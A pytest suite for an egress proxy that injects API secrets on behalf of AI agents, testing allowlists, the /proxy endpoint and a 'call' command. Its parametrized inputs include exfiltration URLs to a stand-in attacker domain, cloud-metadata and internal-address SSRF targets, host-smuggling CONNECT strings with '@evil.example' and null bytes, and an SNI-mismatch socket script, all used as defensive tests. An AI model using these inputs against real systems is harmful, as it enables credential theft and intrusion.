"""The explicit port: real clients that are told of a proxy, the /proxy endpoint, and `agentsecrets call`."""

import json

import pytest

from helpers import AUTH, REF, STRIPE, audit, curl, holds_key, raw, raw_reason, reason, refused
from lab import NOBODY

PROXY = "http://127.0.0.1:8765"
PYTHON = "/usr/bin/python3"


def last_bearer(world, before):
    seen = world.wait_requests(len(before) + 1, host="api.stripe.com")[len(before):]
    assert [q["authorization"] for q in seen] == [f"Bearer {world.keys['STRIPE_KEY']}"]


# ---- as a proxy ----

def test_curl_https(world):
    before = world.requests(host="api.stripe.com")
    status, body, p = curl(world, STRIPE, *AUTH, "-x", PROXY)
    assert status == 200 and '"object":"list"' in body, p.stderr
    last_bearer(world, before)
    assert audit(world.daemons[0], kind="decision", method="CONNECT", host="api.stripe.com", verdict="allow")


def test_curl_plain_http(world):
    world.cli("workspace", "allowlist", "add", "--workspace", "demo", "files.lab-host.com:80")  # another test may have
    status, body, p = curl(world, "http://files.lab-host.com/", "-x", PROXY)
    assert (status, body) == (200, "plain\n"), p.stderr
    status, body, p = curl(world, "http://files.lab-host.com/", "-p", "-x", PROXY)
    assert (status, body) == (200, "plain\n"), p.stderr


def test_requests(world):
    before = world.requests(host="api.stripe.com")
    code = (f"import os, requests\nr = requests.get({STRIPE!r}, headers={{'Authorization': 'Bearer ' + os.environ['STRIPE_KEY']}})\n"
            "print(r.status_code, r.json()['object'])")
    p = world.agent("sh", "-c", 'HTTPS_PROXY=$0 exec "$@"', PROXY, PYTHON, "-c", code)
    assert p.stdout == "200 list\n", p.stderr
    last_bearer(world, before)


@pytest.mark.parametrize("url, why", [
    ("https://attacker-domain.com/steal", "domain_not_in_allowlist"),
    ("https://203.0.113.66/", "domain_not_in_allowlist"),
    ("https://[2001:db8:1:2::66]/", "domain_not_in_allowlist"),
    ("https://localhost/", "domain_not_in_allowlist"),
    ("https://api.stripe.com:8443/", "policy_denied"),
    ("http://attacker-domain.com/steal", "domain_not_in_allowlist"),
    ("http://169.254.169.254/latest/meta-data/", "domain_not_in_allowlist"),
    ("http://10.0.1.5/", "domain_not_in_allowlist"),
])
def test_refused_targets(world, url, why):
    """The reason is in the answer to the CONNECT itself."""
    p = world.agent("curl", "-sS", "-m", "20", "-x", PROXY, "-w", "%{http_connect} %{http_code}", "-i", url)
    assert "403" in p.stdout and f'"error":"{why}"' in p.stdout + p.stderr or "CONNECT tunnel failed, response 403" in p.stderr, (p.stdout, p.stderr)
    assert audit(world.daemons[0], kind="decision", reason=why)


def test_address_behind_an_allowed_name(world):
    """inside.lab-host.com leads to 10.0.1.5: a CONNECT to it may be, what goes through it may not."""
    status, body, p = curl(world, "https://inside.lab-host.com/", "-x", PROXY)
    assert (status, reason(body)) == (403, "ssrf_protection_blocked"), p.stderr


# ---- /proxy ----

def x(*more):
    return ["-x", "", "-H", f"X-AS-Target-URL: {STRIPE}", *(a for m in more for a in ("-H", m))]


def test_health(world):
    assert curl(world, "http://localhost:8765/health")[:2] == (200, '{"status":"ok"}\n')


def test_proxy_with_curl_and_requests(world):
    before = world.requests(host="api.stripe.com")
    status, body, p = curl(world, f"{PROXY}/proxy", *x("X-AS-Inject-Bearer: STRIPE_KEY", "X-AS-Agent-ID: lab agent"))
    assert status == 200 and '"object":"list"' in body, p.stderr
    last_bearer(world, before)
    assert audit(world.daemons[0], kind="decision", agent="lab agent")
    before = world.requests(host="api.stripe.com")
    code = ("import requests\n"
            f"r = requests.post('http://localhost:8765/proxy', headers={{'X-AS-Target-URL': {STRIPE!r}, 'X-AS-Method': 'GET', "
            f"'X-AS-Inject-Bearer': {REF!r}}})\nprint(r.status_code, r.json()['object'])")
    p = world.agent(PYTHON, "-c", code)
    assert p.stdout == "200 list\n", p.stderr
    last_bearer(world, before)


def test_proxy_errors_say_nothing_of_values(world):
    """A query-injected secret was quoted in errors elsewhere."""
    world.must("secrets", "set", "--workspace", "demo", "QUERY_KEY", "--host", "loop.lab-host.com", "--slot", "query", input="query-value-7d1f0e")
    status, body, _ = curl(world, f"{PROXY}/proxy", "-x", "", "-H", "X-AS-Target-URL: https://loop.lab-host.com/", "-H", "X-AS-Inject-Query-k: QUERY_KEY")
    assert (status, reason(body)) == (403, "ssrf_protection_blocked") and "query-value" not in body
    world.must("secrets", "set", "--workspace", "demo", "QUERY_KEY", "--host", "wrong-name.lab-host.com", "--slot", "query", input="query-value-7d1f0e")
    status, body, _ = curl(world, f"{PROXY}/proxy", "-x", "", "-H", "X-AS-Target-URL: https://wrong-name.lab-host.com/", "-H", "X-AS-Inject-Query-k: QUERY_KEY")
    assert (status, reason(body)) == (502, "upstream_certificate_invalid") and "query-value" not in body
    assert "query-value" not in world.daemons[0].audit.read_text()


# ---- call ----

def call(world, *args, **kw):
    return world.cli("call", "--workspace", "demo", *args, **kw)


def test_call(world):
    before = world.requests(host="api.stripe.com")
    p = call(world, "--url", STRIPE, "--bearer", "STRIPE_KEY")
    assert p.returncode == 0 and json.loads(p.stdout)["object"] == "list" and p.stderr == ""
    last_bearer(world, before)
    p = call(world, "--url", STRIPE, "--bearer", "STRIPE_KEY", "--output", "json", "-H", "X-Key: plain")
    out = json.loads(p.stdout)
    assert p.returncode == 0 and out["status"] == 200 and json.loads(out["body"])["object"] == "list"
    assert out["headers"]["Content-Type"] == ["application/json"] and out["redacted"] == 0 and out["duration_ms"] >= 0 and "error" not in out
    assert world.requests(host="api.stripe.com")[-1]["headers"].startswith("plain")
    p = world.cli("call", "--workspace", "ordinary", "--url", STRIPE, "--basic", "STRIPE_KEY", uid=NOBODY)
    assert p.returncode == 1 and "Invalid API Key" in p.stdout  # the value is no user:password, and the upstream says so


def test_call_refusals(world):
    said = refused(call(world, "--url", "https://attacker-domain.com/", "--bearer", "STRIPE_KEY"))
    assert "domain_not_in_allowlist" in said and "allowlist add attacker-domain.com" in said
    assert "secret_not_for_host" in refused(call(world, "--url", "https://api.openai.com/", "--bearer", "STRIPE_KEY"))
    assert "At least one X-AS-Inject-" in refused(call(world, "--url", STRIPE))
    p = call(world, "--url", "https://attacker-domain.com/", "--bearer", "STRIPE_KEY", "--output", "json")
    out = json.loads(p.stdout)
    assert p.returncode == 1 and out["status"] == 403 and out["error"] == "domain_not_in_allowlist"
    for args in ((), ("--url", STRIPE, "--output", "xml"), ("--url", STRIPE, "--header", "nothing"), ("--url", STRIPE, "-H", "X-AS-Method: PUT")):
        p = call(world, *args)
        assert p.returncode in (1, 2) and p.stdout == "" and p.stderr.startswith("agentsecrets: ")
    # From inside of a guard nobody makes another.
    p = world.agent("agentsecrets", "call", "--url", STRIPE, "--bearer", "STRIPE_KEY", env={"AGENTSECRETS_CONTROL": str(world.daemons[0].control)})
    assert p.returncode != 0 and p.stdout == ""


# ---- protocol.md's list: what hosts, SNI and CONNECT may not do ----

def test_connect_then_other_sni(world):
    """CONNECT to one allowed host, SNI of another."""
    code = ("import socket, ssl, os\n"
            "s = socket.create_connection(('127.0.0.1', 8765))\n"
            "s.sendall(b'CONNECT files.lab-host.com:443 HTTP/1.1\\r\\nHost: files.lab-host.com:443\\r\\n\\r\\n')\n"
            "assert s.recv(4096).startswith(b'HTTP/1.1 200 ')\n"
            "t = ssl.create_default_context(cafile=os.environ['SSL_CERT_FILE']).wrap_socket(s, server_hostname='api.stripe.com')\n"
            "t.sendall(b'GET /v1/invoices HTTP/1.1\\r\\nHost: api.stripe.com\\r\\nAuthorization: Bearer agentsecrets://STRIPE_KEY\\r\\nConnection: close\\r\\n\\r\\n')\n"
            "while True:\n    d = t.recv(4096)\n    if not d: break\n    print(d.decode(), end='')\n")
    reads = world.daemons[0].reads()
    p = world.agent(PYTHON, "-c", code)
    assert raw_reason(p.stdout.replace("\n", "\r\n") if "\r\n" not in p.stdout else p.stdout) == ("403", "sni_host_mismatch"), (p.stdout, p.stderr)
    assert world.daemons[0].reads() == reads


@pytest.mark.parametrize("target", ["1.2.3.4:443", "[2001:db8:1:2::10]:443", "localhost:443", "stripe:443", "user@api.stripe.com:443",
                                    "api.stripe.com", "api.stripe.com:443@evil.example", "api.stripe.com:0443", "api.stripe.com\0.evil.example:443"])
def test_connect_targets(world, target):
    answer = raw(world, "127.0.0.1", 8765, None, f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\nConnection: close\r\n\r\n")
    status, why = raw_reason(answer)
    assert (status, why) in (("403", "domain_not_in_allowlist"), ("400", "bad_request")), answer


def test_redirects_are_the_clients(world):
    """We follow none; the next hop is judged, and neither the key nor a Referer with it goes along."""
    status, body, p = curl(world, "https://files.lab-host.com/redirect", "-L", "-x", PROXY, "-H", f"Referer: {REF}")
    assert "403" in p.stderr or status == 403
    assert world.leaks() == [] and holds_key(world, body + p.stderr) == []


def test_connect_to_a_tunnel_rule(world):
    """TLS that is not opened: the client sees the real certificate, and the SNI must still be the CONNECT's target."""
    world.must("workspace", "allowlist", "add", "--workspace", "demo", "b.a.wild-host.com", "--mode", "tunnel")
    try:
        status, body, p = curl(world, "https://b.a.wild-host.com/", "-x", PROXY, "--cacert", str(world.dir / "ca.pem"))
        assert (status, body) == (200, "wild\n"), p.stderr
        assert audit(world.daemons[0], kind="decision", scheme="tunnel", host="b.a.wild-host.com", verdict="allow")
        status, body, p = curl(world, "https://a.wild-host.com/", "-x", PROXY, "--connect-to", "a.wild-host.com:443:b.a.wild-host.com:443")
        assert (status, reason(body)) == (403, "sni_host_mismatch"), (body, p.stderr)
    finally:
        world.must("workspace", "allowlist", "remove", "--workspace", "demo", "b.a.wild-host.com")
